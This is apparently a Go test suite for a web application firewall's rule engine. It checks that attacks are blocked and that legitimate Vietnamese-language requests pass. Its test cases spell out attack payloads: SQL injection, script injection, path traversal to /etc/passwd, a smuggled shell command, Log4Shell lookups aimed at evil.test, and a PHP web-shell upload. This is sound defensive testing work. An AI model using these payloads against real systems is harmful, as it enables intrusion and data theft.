package rules

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/lachan-waf/lachan/policies"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// site is a policy with the defaults of waf.
func site(change ...func(*policies.WAF)) *policies.Site {
	s := &policies.Site{
		Name:    "portal",
		Hosts:   []string{"www.commune.example"},
		Profile: policies.ProfileGeneric,
		WAF: policies.WAF{
			Mode: policies.WAFBlock, Paranoia: 1, DetectionParanoia: 1, InboundThreshold: 5,
			RequestBody: policies.RequestBody{Limit: 1 << 20, Over: policies.OverReject},
		},
	}
	for _, f := range change {
		f(&s.WAF)
	}
	return s
}

// acquire compiles a site on engines of its own and gives it back after the test.
func acquire(t testing.TB, s *policies.Site) *Engine {
	t.Helper()
	return acquireFrom(t, NewEngines(Options{}), s)
}

func acquireFrom(t testing.TB, engines *Engines, s *policies.Site) *Engine {
	t.Helper()
	e, err := engines.Acquire(s)
	if err != nil {
		t.Fatalf("Acquire: %v", err)
	}
	t.Cleanup(e.Release)
	return e
}

// request is what a browser sends for a target, with pairs of header fields.
func request(method, target string, fields ...string) *Request {
	r := &Request{
		ID: "01JDA7Q4V3M0C8N5T2X9R6K1BW", Method: method, Target: target, Proto: "HTTP/1.1", Host: "www.commune.example",
		Header: map[string][]string{
			"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"},
			"Accept":          {"text/html,application/xhtml+xml"},
			"Accept-Language": {"vi,en;q=0.5"},
		},
		Client: netip.MustParseAddrPort("203.0.113.9:50000"),
		Server: netip.MustParseAddrPort("192.0.2.1:443"),
	}
	for i := 0; i < len(fields); i += 2 {
		r.Header[fields[i]] = append(r.Header[fields[i]], fields[i+1])
	}
	return r
}

// post is a request with a body and its length.
func post(target, contentType, body string) (*Request, io.Reader) {
	r := request("POST", target, "Content-Type", contentType)
	r.ContentLength = int64(len(body))
	return r, strings.NewReader(body)
}

func inspect(t testing.TB, e *Engine, r *Request, body io.Reader) Verdict {
	t.Helper()
	v, err := e.Inspect(context.Background(), r, body)
	if err != nil {
		t.Fatalf("Inspect %s %s: %v", r.Method, r.Target, err)
	}
	t.Cleanup(v.Close)
	return v
}

const (
	form      = "application/x-www-form-urlencoded"
	multipart = "multipart/form-data; boundary=----lachan7MA4YWxk"
)

func part(disposition, contentType, body string) string {
	p := "------lachan7MA4YWxk\r\nContent-Disposition: form-data; " + disposition + "\r\n"
	if contentType != "" {
		p += "Content-Type: " + contentType + "\r\n"
	}
	return p + "\r\n" + body + "\r\n"
}

const partsEnd = "------lachan7MA4YWxk--\r\n"

func TestAttacksAreBlocked(t *testing.T) {
	e := acquire(t, site())
	for _, tt := range []struct {
		name, method, target, contentType, body string
		fields                                  []string
		rule                                    int
		variable                                string
	}{
		{name: "SQL injection in the query", method: "GET", target: "/tin?id=1%27%20OR%20%271%27=%271%20UNION%20SELECT%20user,pass%20FROM%20wp_users--", rule: 942100, variable: "ARGS:id"},
		{name: "script in the query", method: "GET", target: "/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E", rule: 941100, variable: "ARGS:s"},
		{name: "path traversal", method: "GET", target: "/?page=../../../../etc/passwd", rule: 930100},
		{name: "shell command", method: "GET", target: "/?host=127.0.0.1;cat%20/etc/passwd", rule: 930120},
		{name: "log4shell in a field", method: "GET", target: "/", fields: []string{"X-Api-Version", "${jndi:ldap://evil.test/a}"}, rule: 944150},
		{name: "scanner", method: "GET", target: "/", fields: []string{"User-Agent", "sqlmap/1.8"}, rule: 913100},
		{name: "PHP in a form", method: "POST", target: "/", contentType: form, body: "c=" + url.QueryEscape("<?php system($_GET['x']); ?>"), rule: 933100},
		{name: "SQL injection in JSON", method: "POST", target: "/api", contentType: "application/json", body: `{"user":{"name":"' OR 1=1 UNION SELECT password FROM users-- "}}`, rule: 942100},
		{name: "web shell upload", method: "POST", target: "/upload", contentType: multipart, body: part(`name="f"; filename="anh.php"`, "image/png", "<?php eval($_POST[1]);") + partsEnd, rule: 933110},
		{name: "script in XML", method: "POST", target: "/rpc", contentType: "text/xml", body: `<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>`, rule: 941100},
		{name: "attack in a body without a content type", method: "POST", target: "/", body: "x=1' UNION SELECT password FROM users-- ", rule: 942100},
		{name: "attack in a body of an unknown content type", method: "POST", target: "/", contentType: "text/plain", body: "x=<script>alert(1)</script>", rule: 941100},
		{name: "WebSocket handshake", method: "GET", target: "/ws?q=%27%20UNION%20SELECT%20password%20FROM%20users--", fields: []string{"Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Version", "13"}, rule: 942100},
		{name: "HEAD", method: "HEAD", target: "/?q=%27%20UNION%20SELECT%20password%20FROM%20users--", rule: 942100},
		{name: "OPTIONS", method: "OPTIONS", target: "/?q=%27%20UNION%20SELECT%20password%20FROM%20users--", rule: 942100},
		{name: "the loopback's dummy connection", method: "GET", target: "/", fields: []string{"User-Agent", "sqlmap (internal dummy connection)"}, rule: 913100},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := request(tt.method, tt.target)
			for i := 0; i < len(tt.fields); i += 2 {
				r.Header[tt.fields[i]] = []string{tt.fields[i+1]}
			}
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(tt.body)
				r.ContentLength = int64(len(tt.body))
			}
			if tt.contentType != "" {
				r.Header["Content-Type"] = []string{tt.contentType}
			}
			r.Client = netip.MustParseAddrPort("127.0.0.1:50000")
			v := inspect(t, e, r, body)
			if !v.Blocked || !v.WouldBlock || v.Status != 403 || v.Score < 5 {
				t.Fatalf("blocked %v, would block %v, status %d, score %d; matches %+v", v.Blocked, v.WouldBlock, v.Status, v.Score, v.Matches)
			}
			assertMatched(t, v, tt.rule)
			cause := v.Cause()
			if cause == nil || cause.Severity != 2 || cause.Ruleset != "OWASP CRS" || cause.Version != "4.25.0" || cause.Message == "" || cause.Variable == "" {
				t.Errorf("cause %+v", cause)
			}
			if tt.variable != "" && cause.Variable != tt.variable {
				t.Errorf("variable %q, want %q", cause.Variable, tt.variable)
			}
		})
	}
}

func assertMatched(t *testing.T, v Verdict, rule int) {
	t.Helper()
	var ids []int
	for _, m := range v.Matches {
		if m.RuleID == rule {
			return
		}
		ids = append(ids, m.RuleID)
	}
	t.Errorf("rule %d is not among the matches %v", rule, ids)
}

const vietnamese = "Ủy ban nhân dân xã thông báo lịch tiếp công dân: sáng thứ Hai, 7 giờ 30 – 11 giờ; mang theo CCCD & giấy tờ liên quan. “Kính mời” bà con!"

func TestBenignRequestsPass(t *testing.T) {
	e := acquire(t, site())
	for _, tt := range []struct{ name, method, target, contentType, body string }{
		{"home page", "GET", "/", "", ""},
		{"search in Vietnamese", "GET", "/?s=" + url.QueryEscape("thủ tục cấp giấy khai sinh & hộ khẩu"), "", ""},
		{"path in Vietnamese", "GET", "/tin-t%E1%BB%A9c/l%E1%BB%8Bch-ti%E1%BA%BFp-c%C3%B4ng-d%C3%A2n.html", "", ""},
		{"form", "POST", "/lien-he", form, "ten=" + url.QueryEscape("Nguyễn Thị Ánh") + "&noi_dung=" + url.QueryEscape(vietnamese)},
		{"JSON", "POST", "/api/y-kien", "application/json", `{"tiêu_đề":"Góp ý","nội_dung":"` + vietnamese + `","ưu_tiên":2,"thẻ":["đất đai","môi trường"]}`},
		{"upload", "POST", "/upload", multipart, part(`name="tieu_de"`, "", vietnamese) + part(`name="f"; filename="anh-hoi-nghi.png"`, "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR") + partsEnd},
		{"empty form", "POST", "/", form, ""},
		{"HEAD", "HEAD", "/", "", ""},
		{"OPTIONS", "OPTIONS", "/", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := request(tt.method, tt.target)
			var body io.Reader
			if tt.method == "POST" {
				r, body = post(tt.target, tt.contentType, tt.body)
				r.Header["Content-Length"] = []string{"1"}
			}
			v := inspect(t, e, r, body)
			if v.Blocked || v.WouldBlock || v.Status != 0 || v.RuleID != 0 || len(v.Matches) > 0 {
				t.Fatalf("blocked %v with %d: %+v", v.Blocked, v.RuleID, v.Matches)
			}
			assertReplay(t, v, tt.body)
		})
	}
}

func assertReplay(t *testing.T, v Verdict, want string) {
	t.Helper()
	if v.Body == nil {
		if want != "" {
			t.Errorf("no body to replay; want %d bytes", len(want))
		}
		return
	}
	got, err := io.ReadAll(v.Body)
	if err != nil || string(got) != want {
		t.Errorf("replayed %d bytes (%v), want the %d of the request", len(got), err, len(want))
	}
}

func TestMalformedBodiesAreRefused(t *testing.T) {
	e := acquire(t, site())
	for _, tt := range []struct {
		name, contentType, body string
		rule                    int
	}{
		{"JSON", "application/json", `{"a":`, 200002},
		{"multipart without its end", multipart, part(`name="a"`, "", "1"), 200002},
		{"multipart without a boundary", "multipart/form-data", part(`name="a"`, "", "1") + partsEnd, 200002},
		{"part with two names for its file", multipart, part(`name="f"; filename="a.txt"; filename="b.php"`, "", "1") + partsEnd, 200003},
		{"too many arguments", form, strings.Repeat("a=1&", 1500), 200005},
		{"deep JSON", "application/json", strings.Repeat("[", 5000) + strings.Repeat("]", 5000), 200002},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r, body := post("/", tt.contentType, tt.body)
			v := inspect(t, e, r, body)
			if !v.Blocked || v.Status != 400 {
				t.Fatalf("blocked %v, status %d; want 400; matches %+v", v.Blocked, v.Status, v.Matches)
			}
			if c := v.Cause(); c == nil || c.Ruleset != "Lachan" {
				t.Errorf("cause %+v for rule %d", c, v.RuleID)
			}
		})
	}
}

func TestAmbiguousRequestsAreRefused(t *testing.T) {
	engines := NewEngines(Options{})
	r, _ := post("/", "text/plain", "a=1")
	r.Header["content-type"] = []string{form}
	for _, mode := range []policies.WAFMode{policies.WAFBlock, policies.WAFDetect} {
		// A threshold beyond reach: the rules alone would let it pass.
		e := acquireFrom(t, engines, site(func(w *policies.WAF) { w.Mode, w.InboundThreshold = mode, 1000 }))
		v := inspect(t, e, r, strings.NewReader("a=1"))
		if v.Blocked != (mode == policies.WAFBlock) || !v.WouldBlock || v.Status != 400 || v.Reason != "more than one Content-Type" {
			t.Errorf("%s: blocked %v, would block %v, status %d, %q", mode, v.Blocked, v.WouldBlock, v.Status, v.Reason)
		}
	}
}

// A site that only detects is told of every rule, behind the first refusal too,
// unless its own rules may end an inspection earlier.
func TestDetectionGoesOnBehindARefusal(t *testing.T) {
	const broken = `SecRule ARGS:a "@streq 1" "id:1,phase:1,deny,status:403,log,msg:'first'"` + "\n" +
		`SecRule ARGS:a "@streq 1" "id:2,phase:2,pass,log,msg:'second'"`
	for _, tt := range []struct {
		name, rules string
		mode        policies.WAFMode
		want        []int
	}{
		{"detect", broken, policies.WAFDetect, []int{1, 2}},
		{"block", broken, policies.WAFBlock, []int{1}},
		{"detect with allow", broken + "\n" + `SecAction "id:3,phase:2,allow,nolog"`, policies.WAFDetect, []int{1}},
	} {
		file := write(t, t.TempDir(), "own.conf", tt.rules)
		e := acquire(t, site(func(w *policies.WAF) { w.Mode, w.Rules = tt.mode, []string{file} }))
		v := inspect(t, e, request("GET", "/?a=1"), nil)
		var got []int
		for _, m := range v.Matches {
			got = append(got, m.RuleID)
		}
		if !slices.Equal(got, tt.want) || v.RuleID != 1 || v.Status != 403 || !v.WouldBlock || v.Blocked != (tt.mode == policies.WAFBlock) {
			t.Errorf("%s: rules %v, rule %d, status %d, would block %v", tt.name, got, v.RuleID, v.Status, v.WouldBlock)
		}
	}
}

// TestRequestsAreSeenAsReceived has rules that only match when the raw target, every field and the framing arrive.
func TestRequestsAreSeenAsReceived(t *testing.T) {
	conditions := []string{
		`REQUEST_URI_RAW "@streq /a%2fb;c?x=1;y&&z=%2e"`,
		`REQUEST_LINE "@streq POST /a%2fb;c?x=1;y&&z=%2e HTTP/1.1"`,
		`REQUEST_HEADERS:Host "@streq www.commune.example:8443"`,
		`SERVER_NAME "@streq www.commune.example"`,
		`REMOTE_ADDR "@streq 203.0.113.9"`,
		`REMOTE_PORT "@eq 50000"`,
		`SERVER_ADDR "@streq 2001:db8::1"`,
		`UNIQUE_ID "@streq 01JDA7Q4V3M0C8N5T2X9R6K1BW"`,
		`&REQUEST_HEADERS:X-Twice "@eq 2"`,
		`REQUEST_HEADERS:X_Underscore "@streq 1"`,
		`REQUEST_HEADERS:Transfer-Encoding "@streq chunked"`,
		`&REQUEST_HEADERS:Content-Length "@eq 0"`,
		`REQUEST_COOKIES:b "@streq 2"`,
		`REQUEST_BODY "@streq a=1"`,
	}
	text := ""
	for i, condition := range conditions {
		text += fmt.Sprintf("SecRule %s \"id:%d,phase:2,t:none,pass,msg:'seen'\"\n", condition, 100000+i)
	}
	e := operator(t, text)
	r := request("POST", "/a%2fb;c?x=1;y&&z=%2e", "X-Twice", "1", "X-Twice", "2", "X_Underscore", "1", "Cookie", "a=1; b=2", "Host", "evil.test", "Content-Type", form)
	r.Host, r.ContentLength, r.TransferEncoding = "www.commune.example:8443", -1, []string{"chunked"}
	r.Client = netip.MustParseAddrPort("[::ffff:203.0.113.9]:50000")
	r.Server = netip.MustParseAddrPort("[2001:db8::1%eth0]:443")
	v := inspect(t, e, r, strings.NewReader("a=1"))
	for i, condition := range conditions {
		if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.RuleID == 100000+i }) {
			t.Errorf("%s does not match", condition)
		}
	}
}

func TestVerdictsAreDeterministic(t *testing.T) {
	e := acquire(t, site())
	r := request("GET", "/")
	for i := range 20 {
		r.Header[fmt.Sprintf("X-Field-%d", i)] = []string{"${jndi:ldap://evil.test/" + strconv.Itoa(i) + "}"}
	}
	first := inspect(t, e, r, nil)
	for range 10 {
		again := inspect(t, e, r, nil)
		if diff := cmp.Diff(first.Matches, again.Matches); diff != "" || again.RuleID != first.RuleID {
			t.Fatalf("rule %d, then %d:\n%s", first.RuleID, again.RuleID, diff)
		}
	}
}

func TestModes(t *testing.T) {
	engines := NewEngines(Options{})
	for _, tt := range []struct {
		mode            policies.WAFMode
		blocked, wouldB bool
		status          int
	}{
		{policies.WAFBlock, true, true, 403},
		{policies.WAFDetect, false, true, 403},
		{policies.WAFOff, false, false, 0},
	} {
		e := acquireFrom(t, engines, site(func(w *policies.WAF) { w.Mode = tt.mode }))
		r, body := post("/?q=%27%20UNION%20SELECT%20password%20FROM%20users--", form, "a=1")
		v := inspect(t, e, r, body)
		if v.Blocked != tt.blocked || v.WouldBlock != tt.wouldB || v.Status != tt.status {
			t.Errorf("%s: blocked %v, would block %v, status %d", tt.mode, v.Blocked, v.WouldBlock, v.Status)
		}
		if tt.mode == policies.WAFDetect && (v.RuleID != 942100 || v.Score < 5) {
			t.Errorf("detect: rule %d, score %d", v.RuleID, v.Score)
		}
		assertReplay(t, v, "a=1")
	}
	if n := engines.Len(); n != 1 {
		t.Errorf("%d engines; block and detect share one and off needs none", n)
	}
}

func TestParanoiaLevelsDiffer(t *testing.T) {
	engines := NewEngines(Options{})
	// Each target matches first at one level: nothing, a lone quote with a
	// comment, a lone tilde run, punctuation.
	r := request("GET", "/?q=1%27--%20%23%20a!b~c%60d")
	scores := []int{}
	for level := 1; level <= 4; level++ {
		e := acquireFrom(t, engines, site(func(w *policies.WAF) { w.Paranoia = level }))
		scores = append(scores, inspect(t, e, r, nil).Score)
	}
	for i := 1; i < len(scores); i++ {
		if scores[i] < scores[i-1] {
			t.Errorf("scores by level %v: a higher level sees no less", scores)
		}
	}
	if scores[0] == scores[1] || scores[1] == scores[2] || scores[2] == scores[3] {
		t.Errorf("scores by level %v: each level should add to this request", scores)
	}
}

func TestDetectionParanoiaDoesNotBlock(t *testing.T) {
	e := acquire(t, site(func(w *policies.WAF) { w.DetectionParanoia = 4 }))
	v := inspect(t, e, request("GET", "/?q=1%27--%20%23%20a!b~c%60d"), nil)
	if v.Blocked || v.Score != 0 || len(v.Matches) == 0 {
		t.Errorf("blocked %v, score %d, %d matches; want matches that do not count", v.Blocked, v.Score, len(v.Matches))
	}
}

func TestThreshold(t *testing.T) {
	engines := NewEngines(Options{})
	target := "/?q=%3Cscript%3Ealert(1)%3C/script%3E"
	score := inspect(t, acquireFrom(t, engines, site()), request("GET", target), nil).Score
	for _, tt := range []struct {
		threshold int
		blocked   bool
	}{{score, true}, {score + 1, false}} {
		e := acquireFrom(t, engines, site(func(w *policies.WAF) { w.InboundThreshold = tt.threshold }))
		if v := inspect(t, e, request("GET", target), nil); v.Blocked != tt.blocked || v.Score != score {
			t.Errorf("threshold %d: blocked %v at score %d", tt.threshold, v.Blocked, v.Score)
		}
	}
}

func TestCancelledRequestsAreNotJudged(t *testing.T) {
	e := acquire(t, site())
	ctx, cancel := context.WithCancel(context.Background())
	r, _ := post("/", form, "a=1")
	_, err := e.Inspect(ctx, r, readerFunc(func(p []byte) (int, error) {
		cancel()
		return copy(p, "a=1"), io.EOF
	}))
	if !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled while reading the body: %v", err)
	}
	if _, err := e.Inspect(ctx, r, nil); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled before: %v", err)
	}
}

type readerFunc func([]byte) (int, error)

func (f readerFunc) Read(p []byte) (int, error) { return f(p) }

func TestPanicsFailClosed(t *testing.T) {
	e := acquire(t, site())
	r, _ := post("/", form, "a=1")
	_, err := e.Inspect(context.Background(), r, readerFunc(func([]byte) (int, error) { panic("odd reader") }))
	if err == nil || !strings.Contains(err.Error(), "odd reader") {
		t.Errorf("error %v", err)
	}
}

func TestValuesAreBounded(t *testing.T) {
	e := acquire(t, site())
	r, body := post("/", form, "x="+strings.Repeat("<script>alert(1)</script>", 1000))
	v := inspect(t, e, r, body)
	if c := v.Cause(); c == nil || len(c.Value) > maxMatchValue {
		t.Errorf("cause %v", c)
	}
}
